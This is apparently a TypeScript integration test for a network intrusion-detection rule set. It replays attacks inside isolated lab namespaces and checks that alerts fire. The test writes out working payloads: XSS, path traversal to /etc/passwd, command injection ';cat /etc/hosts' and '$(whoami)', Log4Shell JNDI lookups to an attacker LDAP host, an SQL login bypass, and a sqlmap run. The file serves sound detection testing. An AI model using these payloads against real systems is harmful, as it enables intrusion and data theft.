/**
 * payload-match on real attack traffic: a victim namespace runs a small HTTP
 * server and tcpdump; an attacker namespace runs sqlmap (bounded) and curl
 * with XSS, traversal, command injection and Log4Shell payloads; a client
 * namespace sends ordinary requests and a page-load-like burst. The capture
 * then goes through pcap-in → payload-match in a real Node-RED runtime.
 * Every attack must raise its rule's alert with the attacker as source;
 * the client's traffic and the server's answers must raise none.
 */
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Lab, netnsUnavailable, toolMissing } from '../support/netns';
import type { Runtime } from '../support/red-runtime';
import { alertsOfCapture, curl, startWebCapture } from '../support/web-capture';
import { startHttpTarget } from '../support/http-target';
import type { Alert } from '../../lib/detect/alert';

const VIC_A = '10.233.1.1';
const ATK = '10.233.1.2';
const VIC_B = '10.233.2.1';
const CLI = '10.233.2.2';
const VIC_C = '10.233.3.1';
/** sqlmap runs from its own namespace, so its alerts are told apart from curl's. */
const SQLMAP = '10.233.3.2';
const PORT = 8080;

let skip: string | null = null;
let lab: Lab | null = null;
let tmp = '';
let runtime: Runtime | null = null;
let alerts: Alert[] = [];
let capturedPackets = 0;
/** sqlmap's console output, shown when its assertions fail. */
let sqlmapLog = '';

/** Attacks sent with curl from the attacker: curl arguments and the rule each must raise. */
const CURL_ATTACKS: { what: string; args: string[]; rules: string[]; matched: RegExp }[] = [
  { what: 'reflected XSS, percent-encoded', args: [`http://${VIC_A}:${PORT}/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E`], rules: ['payload.xss.script'], matched: /^HTTP uri from .*: "<script"/ },
  { what: 'XSS event handler', args: ['-G', '--data-urlencode', 'q=<img src=x onerror=alert(1)>', `http://${VIC_A}:${PORT}/search`], rules: ['payload.xss.event_handler'], matched: /"<img src=x onerror="/ },
  { what: 'path traversal to /etc/passwd', args: ['--path-as-is', `http://${VIC_A}:${PORT}/files/../../../../etc/passwd`], rules: ['payload.traversal.dotdot', 'payload.traversal.sensitive_file'], matched: /\): "(\/\.\.\/|\/etc\/passwd)"/ },
  { what: 'double-encoded traversal', args: [`http://${VIC_A}:${PORT}/download?file=%252e%252e%252fconfig.php`], rules: ['payload.traversal.dotdot'], matched: /after URL-decoding twice: "=\.\.\/"/ },
  { what: 'command injection', args: [`http://${VIC_A}:${PORT}/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fhosts`], rules: ['payload.cmdi.chained'], matched: /";cat "/ },
  { what: 'command substitution', args: ['-G', '--data-urlencode', 'host=$(whoami)', `http://${VIC_A}:${PORT}/ping`], rules: ['payload.cmdi.substitution'], matched: /"\$\(whoami"/ },
  { what: 'Log4Shell in a header', args: ['-H', `User-Agent: \${jndi:ldap://${ATK}:1389/a}`, `http://${VIC_A}:${PORT}/`], rules: ['payload.log4j.jndi'], matched: /\): "\$\{jndi:"/ },
  { what: 'obfuscated Log4Shell in the query', args: ['-g', `http://${VIC_A}:${PORT}/?x=\${\${lower:j}ndi:ldap://${ATK}/a}`], rules: ['payload.log4j.jndi'], matched: /"\$\{\$\{lower:j\}ndi:"/ },
  { what: 'login bypass in a form body', args: ['--data', "user=admin' or '1'='1&pw=x", `http://${VIC_A}:${PORT}/login`], rules: ['payload.sqli.tautology'], matched: /"or '1'='1"/ },
];

before(async () => {
  skip = (await netnsUnavailable()) ?? (await toolMissing('tcpdump', 'curl', 'sqlmap', 'timeout'));
  if (skip) return;
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'ips-payload-'));
  lab = new Lab();
  const vic = await lab.host('vic');
  const atk = await lab.host('atk');
  const cli = await lab.host('cli');
  const sqm = await lab.host('sqm');
  await lab.link(vic, `${VIC_A}/24`, atk, `${ATK}/24`);
  await lab.link(vic, `${VIC_B}/24`, cli, `${CLI}/24`);
  await lab.link(vic, `${VIC_C}/24`, sqm, `${SQLMAP}/24`);
  await startHttpTarget(vic, '0.0.0.0', PORT);

  const file = path.join(tmp, 'web.pcap');
  const capture = await startWebCapture(vic, file, PORT);

  // Benign first, from the client: ordinary requests, then a page load's burst of short connections.
  const base = `http://${VIC_B}:${PORT}`;
  for (const url of ['/', '/index.html', '/item?id=2', '/api/items?limit=20&offset=40&q=red+shoes', "/api/users?name=O'Brien&city=St.%20John%27s", '/search?q=union+station+hotels']) {
    await curl(cli, [`${base}${url}`]);
  }
  await curl(cli, ['-H', 'Content-Type: application/json', '--data', '{"user":"ann","items":[1,2,3],"note":"before friday; thanks"}', `${base}/api/orders`]);
  await curl(cli, ['--data', 'username=ann&password=s3cr%21t&remember=on', `${base}/login`]);
  const assets = Array.from({ length: 24 }, (_, i) => `${base}/static/${['app.js', 'site.css', 'logo.png', 'font.woff2'][i % 4]}?v=${i}`);
  await curl(cli, ['-Z', '--parallel-max', '8', '-H', 'Connection: close', ...assets.flatMap((u) => ['-o', '/dev/null', u])]);

  // Attacks, from the attacker.
  for (const a of CURL_ATTACKS) await curl(atk, a.args);
  const sqlmapOut = path.join(tmp, 'sqlmap');
  await sqm.exec('timeout', ['150', 'sqlmap', '-u', `http://${VIC_C}:${PORT}/item?id=1`, '--batch', '--level', '1', '--risk', '1', '--technique=BU',
    '--flush-session', '--output-dir', sqlmapOut, '--timeout', '5', '--retries', '0', '--disable-coloring'], { timeoutMs: 170_000 })
    .then((r) => {
      sqlmapLog = r.stdout;
    })
    .catch((err: Error & { code?: number; stdout?: string }) => {
      // sqlmap exits non-zero when it finds nothing injectable; what matters is the traffic it sent.
      if (err.code === undefined) throw err;
      sqlmapLog = err.stdout ?? '';
    });

  await capture.stop(cli, `${base}/end-of-capture-marker`);
  assert.ok(fs.statSync(file).size > 24, 'capture written');
  ({ runtime, alerts, packets: capturedPackets } = await alertsOfCapture(file, 'web ips'));
});

after(async () => {
  if (runtime) await runtime.stop();
  if (lab) await lab.cleanup();
  if (tmp) fs.rmSync(tmp, { recursive: true, force: true });
});

describe('payload-match on real traffic (tcpdump capture → pcap-in → payload-match)', () => {
  it('read the capture', (t) => {
    if (skip) return t.skip(skip);
    assert.ok(capturedPackets > 100, `packets in capture: ${capturedPackets}`);
  });

  for (const a of CURL_ATTACKS) {
    it(`curl ${a.what}: ${a.rules.join(', ')} from the attacker`, (t) => {
      if (skip) return t.skip(skip);
      for (const rule of a.rules) {
        // Cooldown 0: every matching request gives its own alert, told apart by what it matched.
        const hit = alerts.find((x) => x.rule === rule && x.src === ATK && a.matched.test(x.reason));
        assert.ok(hit, `no ${rule} alert from ${ATK} matching ${a.matched}; alerts: ${alerts.map((x) => `${x.src} ${x.rule}: ${x.reason}`).join('\n')}`);
        assert.equal(hit.dst, VIC_A);
        assert.equal(hit.dport, PORT);
        assert.equal(hit.category, 'payload');
        assert.match(hit.evidence ?? '', /^matched ".+" .*at bytes \d+-\d+ of \d+\n[0-9a-f]{4} {2}[0-9a-f]{2} /);
      }
    });
  }

  it('sqlmap (boolean and UNION techniques): SQL injection alerts from its address', (t) => {
    if (skip) return t.skip(skip);
    const mine = alerts.filter((x) => x.src === SQLMAP);
    const rules = new Set(mine.map((x) => x.rule));
    for (const rule of ['payload.sqli.tautology', 'payload.sqli.union', 'payload.sqli.information_schema']) {
      assert.ok(rules.has(rule), `${rule} missing; rules from sqlmap: ${[...rules].join(', ')}`);
    }
    assert.ok(mine.every((x) => x.dst === VIC_C && x.dport === PORT));
    // Its boolean probes ("AND 1234=1234", "AND 1234=5678 AND (9=9") are caught one by one.
    const tautology = mine.filter((x) => x.rule === 'payload.sqli.tautology');
    assert.ok(tautology.length >= 10, `tautology alerts: ${tautology.length}; sqlmap said:\n${sqlmapLog.slice(-3000)}`);
  });

  it('benign client requests, the page-load burst and the server answers raise no alert', (t) => {
    if (skip) return t.skip(skip);
    const others = alerts.filter((x) => x.src !== ATK && x.src !== SQLMAP);
    assert.deepEqual(others.map((x) => `${x.src} ${x.rule}: ${x.reason}`), []);
  });
});
